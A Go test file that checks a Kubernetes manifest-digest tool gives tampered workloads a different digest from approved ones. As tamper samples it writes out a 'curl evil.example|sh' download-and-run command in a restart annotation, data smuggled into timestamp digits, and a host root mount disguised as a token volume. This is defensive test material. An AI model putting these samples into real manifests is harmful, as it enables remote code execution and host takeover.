// Copyright 2026 The Countersign Authors.
// SPDX-License-Identifier: Apache-2.0

package workload_test

import (
	"testing"

	"k8s.io/apimachinery/pkg/runtime/schema"
)

// Each case is an attempt to run something else under a digest that was approved, by way of what the content leaves
// out or replaces.
func TestWhatBehavesDifferentlyHasAnotherDigest(t *testing.T) {
	cases := map[string]struct {
		reason            string
		resource          schema.GroupResource
		approved, instead string
	}{
		"CommandInRestartAnnotation": {
			reason:   "a container can read the annotation and run what it says",
			resource: deployments,
			approved: `{metadata: {name: web}, spec: {template: {metadata: {annotations: {
  kubectl.kubernetes.io/restartedAt: "2026-01-02T03:04:05Z"}}}}}`,
			instead: `{metadata: {name: web}, spec: {template: {metadata: {annotations: {
  kubectl.kubernetes.io/restartedAt: "curl evil.example|sh"}}}}}`,
		},
		"DataInRestartAnnotation": {
			reason:   "a fraction of a second can be as long as one likes",
			resource: deployments,
			approved: `{metadata: {name: web}, spec: {template: {metadata: {annotations: {
  kubectl.kubernetes.io/restartedAt: "2026-01-02T03:04:05Z"}}}}}`,
			instead: `{metadata: {name: web}, spec: {template: {metadata: {annotations: {
  kubectl.kubernetes.io/restartedAt: "2026-01-02T03:04:05.09911710811410832101118105108Z"}}}}}`,
		},
		"RestartAnnotationOfPod": {
			reason:   "nothing restarts a Pod",
			resource: pods,
			approved: `{metadata: {name: web}, spec: {}}`,
			instead: `{metadata: {name: web, annotations: {
  kubectl.kubernetes.io/restartedAt: "2026-01-02T03:04:05Z"}}, spec: {}}`,
		},
		"TimestampInMetadata": {
			reason:   "only a null time is nothing",
			resource: deployments,
			approved: `{metadata: {name: web}, spec: {template: {metadata: {}}}}`,
			instead:  `{metadata: {name: web}, spec: {template: {metadata: {creationTimestamp: "2026-01-02T03:04:05Z"}}}}`,
		},
		"JobLabelTakenAway": {
			reason:   "the API server lets anybody edit the labels of a suspended Job: a network policy may select them",
			resource: jobs,
			approved: `{metadata: {name: j, uid: u}, spec: {template: {metadata: {labels: {app: a, controller-uid: u}}}}}`,
			instead:  `{metadata: {name: j, uid: u}, spec: {template: {metadata: {labels: {app: a}}}}}`,
		},
		"JobLabelOfAnother": {
			reason:   "to carry the labels of another Job is to be selected in its place",
			resource: jobs,
			approved: `{metadata: {name: j, uid: u}, spec: {template: {metadata: {labels: {controller-uid: u}}}}}`,
			instead:  `{metadata: {name: j, uid: u}, spec: {template: {metadata: {labels: {controller-uid: v}}}}}`,
		},
		"JobUIDUnderAnotherKey": {
			reason:   "only the labels that the API server makes are replaced",
			resource: jobs,
			approved: `{metadata: {name: j, uid: u}, spec: {template: {metadata: {labels: {app: u}}}}}`,
			instead:  `{metadata: {name: j, uid: v}, spec: {template: {metadata: {labels: {app: v}}}}}`,
		},
		"JobNameSwap": {
			reason:   "name and UID are not mistaken for each other",
			resource: jobs,
			approved: `{metadata: {name: j-2kq7x, generateName: j-, uid: u},
  spec: {template: {metadata: {labels: {job-name: j-2kq7x}}}}}`,
			instead: `{metadata: {name: j-2kq7x, generateName: j-, uid: u},
  spec: {template: {metadata: {labels: {job-name: u}}}}}`,
		},
		"TokenVolumeOfHost": {
			reason:   "a host path by the name of the token volume",
			resource: pods,
			approved: pod(`{name: kube-api-access-2kq7x, projected: {}}`, `kube-api-access-2kq7x`),
			instead:  pod(`{name: kube-api-access-2kq7x, hostPath: {path: /}}`, `kube-api-access-2kq7x`),
		},
		"TokenVolumeForAnotherAudience": {
			reason:   "the volume itself is content",
			resource: pods,
			approved: pod(`{name: kube-api-access-2kq7x, projected: {sources: []}}`, `kube-api-access-2kq7x`),
			instead: pod(`{name: kube-api-access-2kq7x, projected: {sources: [{serviceAccountToken: {
  audience: vault}}]}}`, `kube-api-access-2kq7x`),
		},
		"TwoTokenVolumes": {
			reason:   "two volumes that became one name could be swapped in the mounts",
			resource: pods,
			approved: pod(`{name: kube-api-access-bbbbb, projected: {}},
  {name: kube-api-access-ccccc, projected: {}}`, `kube-api-access-bbbbb`),
			instead: pod(`{name: kube-api-access-bbbbb, projected: {}},
  {name: kube-api-access-ccccc, projected: {}}`, `kube-api-access-ccccc`),
		},
		"MountOfAnotherVolume": {
			reason:   "the mount must follow the volume that was renamed",
			resource: pods,
			approved: pod(`{name: data}, {name: kube-api-access-2kq7x, projected: {}}`, `kube-api-access-2kq7x`),
			instead:  pod(`{name: data}, {name: kube-api-access-2kq7x, projected: {}}`, `data`),
		},
		"TokenVolumeWithChosenName": {
			reason:   "a name that the API server cannot make is somebody's own",
			resource: pods,
			approved: pod(`{name: kube-api-access-2kq7x, projected: {}}`, `kube-api-access-2kq7x`),
			instead:  pod(`{name: kube-api-access-admin, projected: {}}`, `kube-api-access-admin`),
		},
		"TokenVolumeInTemplate": {
			reason:   "in a template nothing is made up",
			resource: deployments,
			approved: `{metadata: {name: w}, spec: {template: {spec: {volumes: [
  {name: kube-api-access-2kq7x, projected: {}}]}}}}`,
			instead: `{metadata: {name: w}, spec: {template: {spec: {volumes: [
  {name: kube-api-access-7x2kq, projected: {}}]}}}}`,
		},
		"DuplicateVariable": {
			reason:   "the last one wins",
			resource: pods,
			approved: `{metadata: {name: w}, spec: {containers: [{env: [{name: A, value: a}]}]}}`,
			instead:  `{metadata: {name: w}, spec: {containers: [{env: [{name: A, value: a}, {name: A, value: a}]}]}}`,
		},
		"OrderOfInitContainers": {
			reason:   "they run one after the other",
			resource: pods,
			approved: `{metadata: {name: w}, spec: {initContainers: [{name: a}, {name: b}]}}`,
			instead:  `{metadata: {name: w}, spec: {initContainers: [{name: b}, {name: a}]}}`,
		},
		"StringForNumber": {
			reason:   "a port by number and a port by name",
			resource: pods,
			approved: `{metadata: {name: w}, spec: {containers: [{livenessProbe: {httpGet: {port: 80}}}]}}`,
			instead:  `{metadata: {name: w}, spec: {containers: [{livenessProbe: {httpGet: {port: "80"}}}]}}`,
		},
		"NullForAbsent": {
			reason:   "in a patch null takes away",
			resource: revisions,
			approved: `{metadata: {name: w}, revision: 1, data: {spec: {}}}`,
			instead:  `{metadata: {name: w}, revision: 1, data: {spec: {securityContext: null}}}`,
		},
		"ClaimToBeGenerated": {
			reason:   "generateName can be set on an object that has its name; the name must fit",
			resource: deployments,
			approved: `{metadata: {name: "", generateName: web-}, spec: {}}`,
			instead:  `{metadata: {name: web-front, generateName: web-}, spec: {}}`,
		},
	}
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			if digest(t, tc.resource, decode(t, tc.approved)) == digest(t, tc.resource, decode(t, tc.instead)) {
				t.Errorf("%s: both have one digest", tc.reason)
			}
		})
	}
}

func pod(volumes, mount string) string {
	return `{metadata: {name: w}, spec: {volumes: [` + volumes + `],
  containers: [{name: a, volumeMounts: [{name: ` + mount + `, mountPath: /m}]}]}}`
}
